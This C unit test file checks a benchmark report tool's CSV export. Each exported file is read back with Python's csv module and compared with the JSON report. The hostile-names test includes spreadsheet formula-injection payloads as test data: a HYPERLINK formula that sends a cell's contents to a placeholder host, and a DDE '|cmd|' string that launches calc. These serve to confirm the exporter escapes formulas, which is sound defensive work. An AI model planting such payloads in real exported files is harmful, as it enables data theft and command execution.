/*
 * The exported CSV files as other programs see them: read back by Python's csv module and compared,
 * cell by cell, with report.json. Hostile names, every separator, decimal sign and byte order mark.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "pts_text.h"
#include "report.h"
#include "report_render.h"
#include "report_scratch.h"

/* Fields end with 0x1F, records with 0x1E, files (begun by their name) with 0x1D. */
static const char reader[] =
	"import csv, os, sys\n"
	"folder, separator, coding = sys.argv[1:]\n"
	"separator = {'tab': '\\t'}.get(separator, separator)\n"
	"out = open(os.path.join(folder, 'read-back'), 'w', encoding='utf-8', newline='')\n"
	"for name in sorted(os.listdir(os.path.join(folder, 'tables'))):\n"
	"    out.write(name[:-4] + '\\x1e')\n"
	"    with open(os.path.join(folder, 'tables', name), encoding=coding, newline='') as "
	"f:\n"
	"        for record in csv.reader(f, delimiter=separator, strict=True):\n"
	"            out.write(''.join(field + '\\x1f' for field in record) + '\\x1e')\n"
	"    out.write('\\x1d')\n";

struct cursor {
	char *at;
};

/* The text up to the mark, which becomes its end. */
static char *part(struct cursor *cursor, char mark)
{
	char *from = cursor->at, *to = strchr(from, mark);

	assert_non_null(to);
	*to = '\0';
	cursor->at = to + 1;
	return from;
}

static bool formula(const char *text)
{
	return text[0] != '\0' && strchr("=+-@\t\r\n", text[0]) != NULL;
}

static void check_field(const char *field, const json_t *want, const struct report_csv *csv)
{
	char number[64], *end;

	if (json_is_null(want)) {
		assert_string_equal(field, "");
	} else if (json_is_string(want)) {
		const char *text = json_string_value(want);

		assert_false(formula(field));
		assert_string_equal(formula(text) ? field + 1 : field, text);
		assert_true(!formula(text) || field[0] == '\'');
	} else {
		assert_true(strlen(field) < sizeof(number));
		strcpy(number, field);
		if (csv->decimal_comma) {
			assert_null(strchr(number, '.'));
			if (strchr(number, ',') != NULL)
				*strchr(number, ',') = '.';
		}
		assert_true(strtod(number, &end) == json_number_value(want));
		assert_true(end > number && *end == '\0');
	}
}

static void check_head(struct cursor *record, const json_t *columns, bool *ret_reasons)
{
	size_t i;
	json_t *column;

	json_array_foreach((json_t *)columns, i, column)
	{
		const char *unit = json_string_value(json_object_get(column, "unit"));
		const char *field = part(record, '\x1F');
		char want[200];

		snprintf(want, sizeof(want), unit[0] != '\0' ? "%s [%s]" : "%s",
			 json_string_value(json_object_get(column, "key")), unit);
		assert_string_equal(field, want);
	}
	*ret_reasons = *record->at != '\0';
	if (*ret_reasons)
		assert_string_equal(part(record, '\x1F'), "missing_reason");
	assert_string_equal(record->at, "");
}

static void check_row(struct cursor *record, const json_t *columns, const json_t *row,
		      bool reasons, const struct report_csv *csv)
{
	const json_t *missing = json_object_get(row, "missing_reason");
	const char *key, *field;
	json_t *column, *reason;
	size_t i;

	json_array_foreach((json_t *)columns, i, column)
	{
		key = json_string_value(json_object_get(column, "key"));
		check_field(part(record, '\x1F'), json_object_get(row, key), csv);
	}
	if (reasons) {
		field = part(record, '\x1F');
		json_object_foreach((json_t *)missing, key, reason)
			assert_non_null(strstr(field, json_string_value(reason)));
		assert_true((field[0] == '\0') == (missing == NULL));
	}
	assert_string_equal(record->at, "");
}

static void check_file(struct cursor *file, const json_t *root, const struct report_csv *csv)
{
	const json_t *table = table_of(root, part(file, '\x1E'));
	const json_t *columns = json_object_get(table, "columns");
	struct cursor record = {part(file, '\x1E')};
	bool reasons;
	json_t *row;
	size_t i;

	check_head(&record, columns, &reasons);
	json_array_foreach(json_object_get(table, "rows"), i, row)
	{
		record.at = part(file, '\x1E');
		check_row(&record, columns, row, reasons, csv);
	}
	assert_string_equal(file->at, "");
}

static void check_read_back(const struct fake_options *fake, const struct report_csv *csv)
{
	struct report_options options = {.formats = REPORT_CSV | REPORT_JSON, .csv = *csv};
	struct pts_buf command = {0};
	unsigned files = 0;
	struct cursor all;
	json_t *root;
	char *text;

	written_with(fake, options, "out");
	pts_buf_printf(&command, "python3 -I '%s'", scratch_path("reader.py"));
	pts_buf_printf(&command, " '%s' '%s' '%s'", scratch_path("out"),
		       csv->separator == '\t' ? "tab" : (char[]){csv->separator, '\0'},
		       csv->bom ? "utf-8-sig" : "utf-8");
	assert_int_equal(system(command.data), 0);
	pts_buf_release(&command);
	root = report_json_of("out");
	text = scratch_read("out/read-back", NULL);
	for (all.at = text; *all.at != '\0'; files++) {
		struct cursor file = {part(&all, '\x1D')};

		check_file(&file, root, csv);
	}
	assert_int_equal(files, json_array_size(json_object_get(root, "tables")));
	free(text);
	json_decref(root);
}

static const struct report_csv looks[] = {
	{',', false, false}, {';', false, false}, {';', true, true},
	{'\t', true, false}, {',', false, true},
};

static int setup(void **state)
{
	render_setup(state);
	return pts_file_write(scratch_path("reader.py"), reader, strlen(reader));
}

static void test_every_look_reads_back(void **state)
{
	struct fake_options fake = FAKE_OPTIONS_INIT;

	(void)state;
	fake.deviations = 3;
	fake.events = 3;
	fake.lba_4096 = true;
	fake.failed_cell = 5;
	for (unsigned i = 0; i < sizeof(looks) / sizeof(looks[0]); i++)
		check_read_back(&fake, &looks[i]);
}

static void test_hostile_names_read_back(void **state)
{
	static const char *const names[] = {
		"=HYPERLINK(\"http://x/?\"&A1;\"go\")",
		"+1+1",
		"-2+3|cmd|' /C calc'!A0",
		"@SUM(A1:A9)",
		"\t=1",
		"\n=1",
		"1,5;2",
		"a \"quoted\" name",
		"\"",
		"line\nbreak\t tab",
		" blanks ",
		"'=already",
		"000123",
		"1E5",
		"caf\xC3\xA9 \xE5\x9B\xBA\xE6\x80\x81",
		"odd \xFF byte",
	};
	struct fake_options fake = FAKE_OPTIONS_INIT;

	(void)state;
	for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		fake.model = names[i];
		check_read_back(&fake, &looks[i % (sizeof(looks) / sizeof(looks[0]))]);
	}
}

static void test_bytes_of_a_file(void **state)
{
	struct report_options options = {.formats = REPORT_CSV, .csv = {';', true, true}};
	struct fake_options fake = FAKE_OPTIONS_INIT;
	char *csv;

	(void)state;
	written_with(&fake, options, "out");
	csv = scratch_read("out/tables/iops-matrix-iops.csv", NULL);
	assert_memory_equal(csv,
			    "\xEF\xBB\xBF"
			    "block_size [KiB];rw_mix_0-100 [IOPS];",
			    40);
	assert_non_null(strstr(csv, "\r\n0,5;"));
	free(csv);
	options.csv = (struct report_csv){0};
	written_with(&fake, options, "out");
	csv = scratch_read("out/tables/iops-matrix-iops.csv", NULL);
	assert_memory_equal(csv, "block_size [KiB],rw_mix_0-100 [IOPS],", 37);
	assert_non_null(strstr(csv, "\r\n0.5,"));
	free(csv);
}

static void refused(const char *separator, const char *decimal, const char *says)
{
	struct pts_err err = PTS_ERR_INIT;
	struct report_csv csv;

	assert_int_not_equal(report_csv_parse(separator, decimal, &csv, &err), 0);
	assert_int_equal(err.exit, PTS_EXIT_USAGE);
	assert_non_null(strstr(err.text, says));
}

static void taken(const char *separator, const char *decimal, char want, bool want_comma)
{
	struct pts_err err = PTS_ERR_INIT;
	struct report_csv csv;

	assert_int_equal(report_csv_parse(separator, decimal, &csv, &err), 0);
	assert_int_equal(csv.separator, want);
	assert_int_equal(csv.decimal_comma, want_comma);
}

static void test_options(void **state)
{
	(void)state;
	taken(NULL, NULL, ',', false);
	taken(NULL, "comma", ';', true);
	taken(";", "point", ';', false);
	taken("semicolon", NULL, ';', false);
	taken("tab", "comma", '\t', true);
	taken("comma", NULL, ',', false);
	refused("|", NULL, "use comma, semicolon or tab");
	refused("", NULL, "use comma, semicolon or tab");
	refused(NULL, ",", "use point or comma");
	refused("comma", "comma", "both the decimal sign and the separator");
}

#define WITH_SCRATCH(test) cmocka_unit_test_setup_teardown(test, setup, render_teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		WITH_SCRATCH(test_every_look_reads_back),
		WITH_SCRATCH(test_hostile_names_read_back),
		WITH_SCRATCH(test_bytes_of_a_file),
		cmocka_unit_test(test_options),
	};

	if (system("python3 -I -c 'import csv' >/dev/null 2>&1") != 0) {
		print_message("skipped: no python3 with its csv module (python3-minimal)\n");
		return 77;
	}
	return cmocka_run_group_tests(tests, NULL, NULL);
}
